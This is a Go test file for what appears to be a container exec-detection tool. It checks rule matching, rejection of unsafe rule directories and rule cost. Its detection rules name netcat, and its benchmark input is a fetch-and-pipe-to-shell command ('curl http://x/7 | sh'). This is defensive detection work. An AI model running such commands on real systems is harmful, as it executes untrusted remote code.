package runtime

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/execguard/execguard/config"
	"github.com/execguard/execguard/detect"
)

func ruleFileText(id, name, query string) string {
	return fmt.Sprintf("[rule]\nrule_id = %q\nname = %q\nseverity = \"medium\"\nrisk_score = 47\nlanguage = \"eql\"\ntype = \"eql\"\nquery = '''\n%s\n'''\n", id, name, query)
}

func shellExec(tty bool, args ...string) detect.Facts {
	return detect.Facts{
		Operation: detect.OpExec, Subcommand: "exec",
		Process:   detect.Process{Args: args, Terminal: tty, Known: true},
		Container: detect.Container{ID: "3f1c0ffee0ddba11", Name: "app", PodName: "web", PodNamespace: "shop"},
	}
}

func TestDecideCallRules(t *testing.T) {
	dir := t.TempDir()
	os.WriteFile(filepath.Join(dir, "nc.toml"), []byte(ruleFileText("r-nc", "Netcat", `process where process.name == "nc"`)), 0o644)
	os.WriteFile(filepath.Join(dir, "bad.toml"), []byte("[rule\n"), 0o644)
	base := config.Default()
	base.StateDir = t.TempDir()
	withDir := base
	withDir.RulesDir = dir
	relative := base
	relative.RulesDir = "rules"
	open := t.TempDir()
	os.WriteFile(filepath.Join(open, "nc.toml"), []byte(ruleFileText("r-nc", "Netcat", `process where process.name == "nc"`)), 0o644)
	os.Chmod(open, 0o777)
	openDir := base
	openDir.RulesDir = open
	groupFile := t.TempDir()
	os.WriteFile(filepath.Join(groupFile, "nc.toml"), []byte(ruleFileText("r-nc", "Netcat", `process where process.name == "nc"`)), 0o644)
	os.Chmod(filepath.Join(groupFile, "nc.toml"), 0o664)
	groupDir := base
	groupDir.RulesDir = groupFile
	seed := "Interactive Exec Command Launched Against A Running Container"
	seed26 := "Exec Into Container Detected via Defend for Containers"
	tests := []struct {
		name    string
		cfg     config.Config
		facts   detect.Facts
		matched string
		alerts  string
		problem string
	}{
		{"interactive shell, built-in rules", base, shellExec(true, "sh"), "[" + seed + " " + seed26 + "]", "[]", ""},
		{"probe shell: the 2026 form, no alert", base, shellExec(false, "sh", "-c", "true"), "[" + seed26 + "]", "[]", ""},
		{"rules_dir rule alerts", withDir, shellExec(false, "nc", "-l"), "[Netcat]", "[r-nc]", "bad.toml:1"},
		{"relative rules_dir refused", relative, shellExec(false, "nc"), "[]", "[]", `rules_dir "rules": want an absolute path`},
		{"directory writable by others refused", openDir, shellExec(false, "nc"), "[]", "[]", "writable by group or others"},
		{"file writable by group refused", groupDir, shellExec(false, "nc"), "[]", "[]", "nc.toml is writable by group or others"},
		{"not an exec", withDir, detect.Facts{Operation: detect.OpUnknown}, "[]", "[]", ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			f := tt.facts
			legacy := tt.cfg.Policy()
			d := decideCall(&f, tt.cfg, &legacy)
			var ids []string
			for _, a := range d.Rules {
				ids = append(ids, a.ID)
			}
			if fmt.Sprint(d.MatchedRules) != tt.matched && !(tt.matched == "[]" && len(d.MatchedRules) == 0) {
				t.Errorf("matched %v, want %s", d.MatchedRules, tt.matched)
			}
			if fmt.Sprint(ids) != tt.alerts && !(tt.alerts == "[]" && len(ids) == 0) {
				t.Errorf("rule alerts %v, want %s", ids, tt.alerts)
			}
			if got := strings.Join(f.Problems, "; "); !strings.Contains(got, tt.problem) || (tt.problem == "" && got != "") {
				t.Errorf("problems %q, want %q", got, tt.problem)
			}
		})
	}
}

// BenchmarkRulesOnExec is what the rules cost one exec in the wrapper: the
// built-in rules, a directory of 50 rules read and compiled, the event
// document built and matched.
func BenchmarkRulesOnExec(b *testing.B) {
	for _, n := range []int{0, 50} {
		b.Run(fmt.Sprintf("dir=%d", n), func(b *testing.B) {
			cfg := config.Default()
			if n > 0 {
				cfg.RulesDir = b.TempDir()
				for i := 0; i < n; i++ {
					q := fmt.Sprintf(`process where event.type == "start" and process.name in ("tool%d", "nc") and process.args : ("*curl*http*%d*", "*wget *") and container.id like "?*"`, i, i)
					os.WriteFile(filepath.Join(cfg.RulesDir, fmt.Sprintf("r%02d.toml", i)), []byte(ruleFileText(fmt.Sprintf("r-%d", i), fmt.Sprintf("Rule %d", i), q)), 0o644)
				}
			}
			p := cfg.Policy()
			for b.Loop() {
				f := shellExec(true, "/bin/sh", "-c", "curl http://x/7 | sh")
				matchRules(&f, cfg, p)
				if len(f.Problems) > 0 {
					b.Fatal(f.Problems)
				}
			}
		})
	}
}
